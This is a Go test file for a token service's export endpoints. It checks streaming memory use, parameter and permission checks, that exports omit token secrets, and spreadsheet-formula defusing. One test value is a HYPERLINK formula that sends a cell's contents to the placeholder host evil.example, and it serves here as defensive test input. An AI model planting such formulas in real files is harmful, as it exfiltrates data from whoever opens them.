package httpapi_test

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"runtime"
	"runtime/metrics"
	"strings"
	"testing"
	"time"

	"github.com/latchkeyhq/latchkey"
	"github.com/latchkeyhq/latchkey/client"
	"github.com/latchkeyhq/latchkey/tokens"
)

// An export of 100,000 audit records streams: the live heap grows by far
// less than the file (30-50 MB), and every record arrives once, in
// order, with the trailers saying it is complete. Not parallel: the heap
// is measured while nothing else runs.
func TestAuditExportStreams(t *testing.T) {
	e := newServer(t, nil, tokens.Policy{})
	const n = 100_000
	at := time.Now().Add(-time.Hour)
	batch := make([]latchkey.AuditEvent, 0, 2048)
	for i := range n {
		batch = append(batch, latchkey.AuditEvent{Time: at.Add(time.Duration(i) * time.Microsecond), Node: "n1", Kind: latchkey.KindVerify,
			Action: latchkey.ActionVerify, TokenID: fmt.Sprintf("Tok%013d", i%50), Outcome: "VALID", ClientIP: fmt.Sprintf("198.51.100.%d", i%200),
			UserAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0 Safari/537.36",
			Method:    "GET", Path: "/v1/invoices/" + fmt.Sprint(i), RequestID: fmt.Sprintf("%016x", i), Scopes: []string{"invoices:read"}})
		if len(batch) == cap(batch) || i == n-1 {
			if err := e.db.AppendAudit(context.Background(), batch); err != nil {
				t.Fatal(err)
			}
			batch = batch[:0]
		}
	}
	for _, format := range []string{"csv", "jsonl", "csv"} {
		base := liveHeap()
		var peak uint64
		// Every 25,000 lines the reader stops until the server, its
		// socket full, blocks mid-export; the heap is read then, twice, so
		// that the second collection runs with nothing allocating: what
		// the export holds, without the garbage of the moment (sampled
		// while the export ran, that garbage read as 8-14 MB).
		sample := func() {
			time.Sleep(100 * time.Millisecond)
			liveHeap()
			peak = max(peak, liveHeap())
		}
		req, _ := http.NewRequest("GET", e.url+"/v1/export/audit?kind=verify&format="+format, nil)
		req.Header.Set("Authorization", "Bearer "+e.root)
		began := time.Now()
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != 200 || !strings.Contains(resp.Header.Get("Content-Disposition"), "."+format) {
			t.Fatalf("%s export: %d %v", format, resp.StatusCode, resp.Header)
		}
		rows, last, size := 0, int64(0), int64(0)
		sc := bufio.NewScanner(&counter{r: resp.Body, n: &size})
		sc.Buffer(make([]byte, 64<<10), 1<<20)
		for sc.Scan() {
			if rows%25_000 == 12_500 {
				sample()
			}
			line := sc.Bytes()
			if format == "csv" {
				if rows == 0 && !strings.HasPrefix(string(line), "seq,time,node,kind") {
					t.Fatalf("csv header: %s", line)
				}
				rows++
				continue
			}
			var ev latchkey.AuditEvent
			if err := json.Unmarshal(line, &ev); err != nil || ev.Seq <= last {
				t.Fatalf("line %d: %v, seq %d after %d", rows, err, ev.Seq, last)
			}
			last = ev.Seq
			rows++
		}
		resp.Body.Close()
		want := n
		if format == "csv" {
			want++ // the header
		}
		if rows != want || resp.Trailer.Get("Latchkey-Export-Complete") != "true" || resp.Trailer.Get("Latchkey-Export-Rows") != fmt.Sprint(n) {
			t.Errorf("%s export: %d lines (want %d), trailers %v", format, rows, want, resp.Trailer)
		}
		grew := int64(peak) - int64(base)
		t.Logf("%s export of %d records: %.1f MB in %v; the live heap grew by at most %.1f MB", format, n, float64(size)/1e6, time.Since(began).Round(time.Millisecond), float64(grew)/1e6)
		// Holding the export would hold at least the file (the records as
		// Go values take more). A streamed export holds a page of records
		// and its buffers: 0.6-6.3 MB measured on a busy machine; a third
		// of the file leaves room and still refuses anything that holds it.
		if grew > size/3 {
			t.Errorf("%s export held %.1f MB of heap for a %.1f MB file: not streamed", format, float64(grew)/1e6, float64(size)/1e6)
		}
	}
}

// liveHeap collects, then reads what that collection found live (not
// what has been allocated since, which depends on the allocation rate).
func liveHeap() uint64 {
	runtime.GC()
	s := []metrics.Sample{{Name: "/gc/heap/live:bytes"}}
	metrics.Read(s)
	return s[0].Value.Uint64()
}

type counter struct {
	r io.Reader
	n *int64
}

func (c *counter) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	*c.n += int64(n)
	return n, err
}

// Exports refuse what they cannot serve before they start, are kept to
// the caller's grants, carry no secret, and defuse cells a spreadsheet
// would run as a formula.
func TestExports(t *testing.T) {
	t.Parallel()
	e := newServer(t, nil, tokens.Policy{})
	rc := e.client(e.root)
	hostile := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	made, err := rc.CreateToken(context.Background(), client.CreateRequest{Name: hostile, Subject: "svc", Scopes: []string{"a:b"}, Tags: []string{"team-x"}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := rc.Verify(context.Background(), client.VerifyRequest{Token: made.Plaintext, IP: "203.0.113.5"}); err != nil {
		t.Fatal(err)
	}
	reader, err := rc.CreateToken(context.Background(), client.CreateRequest{Scopes: []string{latchkey.ScopeVerify}})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		path, tok string
		code      int
	}{
		{"/v1/export/tokens?format=xml", e.root, 400},
		{"/v1/export/tokens?limit=5", e.root, 400},
		{"/v1/export/audit?client_ip=nonsense", e.root, 400},
		{"/v1/export/audit?since=yesterday", e.root, 400},
		{"/v1/export/tokens", reader.Plaintext, 403},
		{"/v1/export/audit", reader.Plaintext, 403},
		{"/v1/export/audit", "", 401},
	} {
		if code, _, body := e.do(t, "GET", c.path, c.tok, ""); code != c.code {
			t.Errorf("GET %s: %d %s, want %d", c.path, code, body, c.code)
		}
	}
	code, hdr, body := e.do(t, "GET", "/v1/export/tokens?format=csv&tag=team-x", e.root, "")
	if code != 200 || !strings.HasPrefix(hdr.Get("Content-Type"), "text/csv") {
		t.Fatalf("token export: %d %v", code, hdr)
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(recs) != 2 || recs[0][0] != "id" || recs[1][0] != made.ID || recs[1][3] != "'"+hostile {
		t.Errorf("token export (csv): %v %q", err, recs)
	}
	if strings.Contains(body, made.Plaintext) || strings.Contains(body, strings.SplitN(made.Plaintext, "_", 3)[2][:20]) {
		t.Error("the token export holds the token's secret")
	}
	code, _, body = e.do(t, "GET", "/v1/export/audit?format=csv&client_ip=203.0.113.0/24", e.root, "")
	recs, err = csv.NewReader(strings.NewReader(body)).ReadAll()
	if code != 200 || err != nil || len(recs) != 2 || recs[1][10] != "203.0.113.5" || recs[1][7] != made.ID {
		t.Errorf("audit export by source: %d %v %q", code, err, recs)
	}
	code, _, body = e.do(t, "GET", "/v1/export/tokens?subject=svc", e.root, "")
	var tok map[string]any
	if code != 200 || strings.Count(body, "\n") != 1 || json.Unmarshal([]byte(body), &tok) != nil || tok["id"] != made.ID || tok["hash"] != nil {
		t.Errorf("token export (jsonl): %d %s", code, body)
	}
}
